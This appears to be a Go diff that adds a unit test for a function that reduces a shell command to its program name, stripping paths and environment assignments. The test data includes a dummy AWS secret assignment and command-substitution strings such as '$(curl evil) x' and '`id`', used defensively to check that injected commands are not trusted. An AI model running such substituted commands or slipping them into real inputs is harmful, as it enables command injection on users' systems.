@@ -125,3 +125,25 @@ func FuzzWanted(f *testing.F) {
 		}
 	})
 }
+
+// TestProgramOf: a shell command's program as a shared endpoint names: no
+// assignment, no path, no value from the command line.
+func TestProgramOf(t *testing.T) {
+	for cmd, want := range map[string]string{
+		"go test ./...": "go",
+		"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI ./deploy": "deploy",
+		"/home/alice/bin/mytool --flag":                "mytool",
+		"FOO=1 BAR=2 make migrate":                     "make",
+		"$(curl evil) x":                               "sh",
+		"`id`":                                         "sh",
+		"":                                             "",
+		"A=1":                                          "",
+	} {
+		if got := programOf(cmd); got != want {
+			t.Errorf("programOf(%q) = %q, want %q", cmd, got, want)
+		}
+	}
+	if v := PathVersion("/usr/bin/make"); !strings.HasPrefix(v, "p-") || strings.Contains(v, "/") || len(v) != 10 {
+		t.Errorf("PathVersion = %q", v)
+	}
+}
